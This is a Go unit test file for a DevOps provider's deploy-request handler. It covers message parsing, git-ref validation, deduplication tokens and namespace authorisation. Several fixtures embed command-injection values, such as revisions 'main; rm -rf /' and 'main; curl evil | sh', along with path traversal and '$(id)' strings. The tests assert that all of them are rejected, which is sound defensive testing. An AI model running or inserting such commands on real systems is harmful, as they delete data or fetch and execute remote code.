/*
Copyright 2026 The provider-devops Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package deployrequest

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	amqp "github.com/rabbitmq/amqp091-go"

	xpv2 "github.com/crossplane/crossplane/apis/v2/core/v2"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"

	pcv1alpha1 "github.com/freeleaps/provider-devops/apis/v1alpha1"
	"github.com/freeleaps/provider-devops/internal/events"
)

func TestParse(t *testing.T) {
	cases := map[string]struct {
		body    string
		want    string // error substring; empty means valid
		project string
	}{
		"Plain":           {body: `{"project": "shop", "environment": "dev", "namespace": "team", "revision": "abc"}`, project: "shop"},
		"CloudEvent":      {body: `{"specversion": "1.0", "type": "io.freeleaps.devops.DevOpsReconcile", "id": "1", "source": "ci", "time": "2026-01-01T00:00:00Z", "data": {"project": "shop", "environment": "dev", "namespace": "team"}}`, project: "shop"},
		"NoNamespace":     {body: `{"project": "shop", "environment": "dev"}`, want: "namespace is required"},
		"RevisionShell":   {body: `{"project": "shop", "environment": "dev", "namespace": "team", "revision": "main; rm -rf /"}`, want: "is not a git ref"},
		"RevisionDotDot":  {body: `{"project": "shop", "environment": "dev", "namespace": "team", "revision": "../../etc"}`, want: "is not a git ref"},
		"RevisionTag":     {body: `{"project": "shop", "environment": "dev", "namespace": "team", "revision": "refs/tags/v1.2.0"}`, project: "shop"},
		"RequestedAt":     {body: `{"project": "shop", "environment": "dev", "namespace": "team", "requestedAt": "2026-11-23T08:00:00.123456789Z"}`, project: "shop"},
		"WrongEventType":  {body: `{"specversion": "1.0", "type": "com.example.other", "data": {}}`, want: `CloudEvent type "com.example.other"`},
		"NotJSON":         {body: `deploy shop`, want: "malformed message: not a JSON object"},
		"Array":           {body: `[1]`, want: "malformed message: not a JSON object"},
		"UnknownField":    {body: `{"project": "shop", "env": "dev"}`, want: `unknown field "env"`},
		"NoProject":       {body: `{"environment": "dev"}`, want: "project is required"},
		"NoEnvironment":   {body: `{"project": "shop"}`, want: "environment is required"},
		"BadLabelValue":   {body: `{"project": "shop/../x", "environment": "dev"}`, want: `project "shop/../x"`},
		"BadNamespace":    {body: `{"project": "shop", "environment": "dev", "namespace": "Team_A"}`, want: `namespace "Team_A"`},
		"RevisionParam":   {body: `{"project": "shop", "environment": "dev", "namespace": "team", "parameters": {"REVISION": "main; curl evil | sh"}}`, want: "parameters.REVISION \"main; curl evil | sh\" is not a git ref"},
		"RevisionTwice":   {body: `{"project": "shop", "environment": "dev", "namespace": "team", "revision": "a", "parameters": {"REVISION": "b"}}`, want: "both revision and parameters.REVISION"},
		"WrongFieldTypes": {body: `{"project": "shop", "environment": "dev", "namespace": "team", "parameters": {"A": 1}}`, want: "malformed DevOpsReconcile"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			r, err := Parse([]byte(tc.body))
			switch {
			case tc.want == "" && err != nil:
				t.Fatalf("unexpected error: %v", err)
			case tc.want == "" && r.Project != tc.project:
				t.Fatalf("project %q, want %q", r.Project, tc.project)
			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
				t.Fatalf("error %v, want it to contain %q", err, tc.want)
			}
		})
	}
}

func TestToken(t *testing.T) {
	if a := Token(amqp.Delivery{MessageId: "deploy-shop-dev-42", Body: []byte("x")}); a != "amqp-deploy-shop-dev-42" {
		t.Errorf("token from message id: %q", a)
	}
	a, b := Token(amqp.Delivery{MessageId: "build/1"}), Token(amqp.Delivery{MessageId: "build 1"})
	if a == b || !strings.HasPrefix(a, "amqp-build-1-") {
		t.Errorf("ids that clean to the same text must keep distinct tokens: %q %q", a, b)
	}
	t1, t2 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 1, 2, 0, 0, 0, 0, time.UTC)
	if Token(amqp.Delivery{Body: []byte(`{}`), Timestamp: t1}) == Token(amqp.Delivery{Body: []byte(`{}`), Timestamp: t2}) {
		t.Error("two requests with one body at two times share a token: the second would be dropped as a duplicate")
	}
	b1, b2 := Token(amqp.Delivery{Body: []byte(`{"project":"a"}`)}), Token(amqp.Delivery{Body: []byte(`{"project":"a"}`)})
	if b1 != b2 || !strings.HasPrefix(b1, "amqp-sha256-") {
		t.Errorf("tokens of one body differ or are malformed: %q %q", b1, b2)
	}
	if b1 == Token(amqp.Delivery{Body: []byte(`{"project":"b"}`)}) {
		t.Error("two bodies, one token")
	}
	if long := Token(amqp.Delivery{MessageId: strings.Repeat("x", 400)}); len(long) > 253 {
		t.Errorf("token of %d characters exceeds buildRequest's 253", len(long))
	}
}

func TestIsRevision(t *testing.T) {
	for r, want := range map[string]bool{
		"main": true, "feature/x-1": true, "refs/tags/v1.2.0": true, "0123abc": true, "release_2.0": true,
		"": false, "-rf": false, "a..b": false, "a//b": false, "a/": false, "a.": false, ".hidden": false, "x/.y": false,
		"a.lock": false, "$(id)": false, "a b": false, "a;b": false, "a`b`": false, "a@{1}": false, "a~1": false, "a^": false, "a:b": false,
		strings.Repeat("a", 256): false,
	} {
		if got := IsRevision(r); got != want {
			t.Errorf("IsRevision(%q) = %v, want %v", r, got, want)
		}
	}
}

// TestHandlerRefusesBeforeReading: requests that can never be applied are
// rejected before the handler reads or writes anything (nil kube).
func TestHandlerRefusesBeforeReading(t *testing.T) {
	future := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	cases := map[string]struct {
		d    amqp.Delivery
		want string
	}{
		"Future":  {amqp.Delivery{UserId: "ci", Body: []byte(`{"project": "shop", "environment": "dev", "namespace": "team", "requestedAt": "` + future + `"}`)}, "is in the future"},
		"NoUser":  {amqp.Delivery{Body: []byte(`{"project": "shop", "environment": "dev", "namespace": "team", "requestedAt": "2026-01-01T00:00:00Z"}`)}, "no AMQP user_id"},
		"NoTime":  {amqp.Delivery{UserId: "ci", Body: []byte(`{"project": "shop", "environment": "dev", "namespace": "team"}`)}, "requestedAt is required"},
		"TooBig":  {amqp.Delivery{UserId: "ci", Body: make([]byte, MaxBody+1)}, "not read"},
		"Garbage": {amqp.Delivery{UserId: "ci", Body: []byte("deploy!")}, "not a JSON object"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			err := Handler(nil)(context.Background(), tc.d)
			var r *events.RejectError
			if !errors.As(err, &r) || !strings.Contains(r.Reason, tc.want) {
				t.Errorf("want a rejection containing %q, got %v", tc.want, err)
			}
		})
	}
}

// One ClusterProviderConfig with deployUsers ["ci-{namespace}"] lets each
// namespace's CI user build only that namespace's pipelines.
func TestAuthorisePerNamespace(t *testing.T) {
	s := runtime.NewScheme()
	if err := pcv1alpha1.SchemeBuilder.AddToScheme(s); err != nil {
		t.Fatal(err)
	}
	kube := fake.NewClientBuilder().WithScheme(s).WithObjects(&pcv1alpha1.ClusterProviderConfig{
		ObjectMeta: metav1.ObjectMeta{Name: "platform"},
		Spec: pcv1alpha1.ProviderConfigSpec{AllowedNamespaces: []string{"team-*"},
			Jenkins: &pcv1alpha1.JenkinsConfig{URL: "https://jenkins.example.com", DeployUsers: []string{"ci-{namespace}"}}},
	}).Build()
	ref := &xpv2.ProviderConfigReference{Kind: "ClusterProviderConfig", Name: "platform"}
	what := "deploy JenkinsPipeline team-a/shop-prod"
	if err := authorise(context.Background(), kube, "team-a", ref, "ci-team-a", what); err != nil {
		t.Errorf("team-a's CI user deploys team-a's pipeline: %v", err)
	}
	if err := authorise(context.Background(), kube, "team-a", ref, "ci-team-b", what); err == nil || !strings.Contains(err.Error(), `broker user "ci-team-b" may not deploy`) {
		t.Errorf("team-b's CI user must not deploy team-a's pipeline, got %v", err)
	}
	if err := authorise(context.Background(), kube, "team-a", ref, "ci-{namespace}", what); err == nil {
		t.Error("the pattern itself is no user")
	}
}
